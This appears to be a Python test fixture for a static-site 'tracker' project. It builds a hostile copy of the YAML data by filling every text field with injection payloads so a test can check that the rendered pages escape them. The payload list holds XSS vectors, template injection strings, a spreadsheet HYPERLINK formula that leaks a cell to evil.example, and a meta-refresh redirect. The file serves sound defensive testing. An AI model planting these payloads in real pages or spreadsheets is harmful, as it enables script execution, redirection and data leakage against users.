"""A hostile copy of the fixture data: every text field of every record holds an attack.

Which fields are text comes from the data files' JSON Schema (and so from tracker/models.py):
a string with no pattern, format or fixed values. Ids, dates and kinds keep their fixture
values, so the copy stays valid and every page can be built; a new text field in the models
is attacked without anyone listing it here.
"""

from __future__ import annotations

import itertools
import shutil
from pathlib import Path
from typing import Any

import yaml

from tracker.export import data_schema
from tracker.models import COLLECTIONS

# Each carries a marker (xss-N) so that a test can tell a payload that came alive from the
# theme's own markup.
PAYLOADS = [
    '<script>alert("xss-1")</script>',
    '<img src=x onerror=alert("xss-2")>',
    '"><svg onload=alert("xss-3")>',
    "' autofocus onfocus=alert(\"xss-4\") x='",
    '[link](javascript:alert("xss-5"))',
    '![image](data:text/html,<script>alert("xss-6")</script>)',
    '[x](autofocus/onfocus=alert("xss-7")//)',
    "<a href=\"javascript:alert('xss-8')\">click</a>",
    '<details open ontoggle=alert("xss-9")>',
    "\" onmouseover=\"alert('xss-10')",
    "{{ config }} {% if true %}xss-11{% endif %}",
    "--- title: xss-12 ---",
    '=HYPERLINK("http://evil.example/?leak="&A1,"xss-13")',
    "+1+1 @SUM(A1) -2 xss-14",
    "*xss-15* _under_ `code` # heading | pipe | ~~strike~~",
    "xss-16 한국어 Ελληνικά кириллица עברית العربية mixed scripts",
    "]]> <![CDATA[ xss-17 <!-- comment",
    "&amp; &lt;b&gt; xss-18 \\ backslash",
    "<style>body{display:none}</style> xss-19",
    "javascript:alert('xss-20')",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/xss-21">',
    "<iframe src=\"javascript:alert('xss-22')\"></iframe><object data=x>",
]

# The payloads that are HTML. Two of them make every record's name or title: what the header,
# the breadcrumb, tables of contents and links show, what Material's tooltips set from any
# of them cut short, and, for a source, what names its citation marks. A script that read one
# of those as HTML would bring them alive.
MARKUP = [p for p in PAYLOADS if "<" in p]

# Safe enough to be accepted as an address, with every character Markdown reads as syntax.
HOSTILE_URL = "https://evil.example/a_(b)*c*[d]!e~f#g&h=i"


def _resolve(schema: dict[str, Any], prop: dict[str, Any]) -> dict[str, Any]:
    if "$ref" in prop:
        return schema["$defs"][prop["$ref"].rsplit("/", 1)[-1]]
    options = [o for o in prop.get("anyOf", []) if o.get("type") != "null"]
    return _resolve(schema, options[0]) if options else prop


def _is_text(prop: dict[str, Any]) -> bool:
    return prop.get("type") == "string" and not {"pattern", "format", "enum", "const"} & prop.keys()


def _fill(schema: dict[str, Any], shape: dict[str, Any], record: dict[str, Any], payloads) -> None:
    for name, raw in shape.get("properties", {}).items():
        prop = _resolve(schema, raw)
        if _is_text(prop):
            record[name] = next(payloads)
        elif prop.get("format") == "uri":
            record[name] = HOSTILE_URL
        elif prop.get("type") == "array" and _is_text(_resolve(schema, prop["items"])):
            record[name] = [next(payloads), next(payloads)]
        elif prop.get("type") == "array" and "properties" in _resolve(schema, prop["items"]):
            for item in record.get(name) or []:
                _fill(schema, _resolve(schema, prop["items"]), item, payloads)
        elif "properties" in prop and isinstance(record.get(name), dict):
            _fill(schema, prop, record[name], payloads)


def hostile_copy(source: Path, target: Path) -> Path:
    """Copy the data at ``source`` to ``target`` with an attack in every text field."""
    shutil.copytree(source, target)
    payloads = itertools.cycle(PAYLOADS)
    markup = itertools.cycle(MARKUP)
    for collection in COLLECTIONS:
        schema = data_schema(collection)
        for path in sorted((target / collection).glob("*.yml")):
            record = yaml.safe_load(path.read_text(encoding="utf-8"))
            _fill(schema, schema, record, payloads)
            record["name" if "name" in record else "title"] = f"{next(markup)} {next(markup)}"
            path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    _same_units(target)
    return target


def _same_units(target: Path) -> None:
    """A figure in a series gives its series' unit (the loader refuses another): each such
    figure takes its series' hostile unit, so that the copy stays valid."""
    units = {
        p.stem: yaml.safe_load(p.read_text(encoding="utf-8")).get("unit") for p in (target / "series").glob("*.yml")
    }
    for path in sorted((target / "figures").glob("*.yml")):
        record = yaml.safe_load(path.read_text(encoding="utf-8"))
        if record.get("series") in units:
            record["unit"] = units[record["series"]]
            path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")


def shown(text: str) -> str:
    """A payload as a reader should see it: white space folded, as the data stores text."""
    return " ".join(text.split())
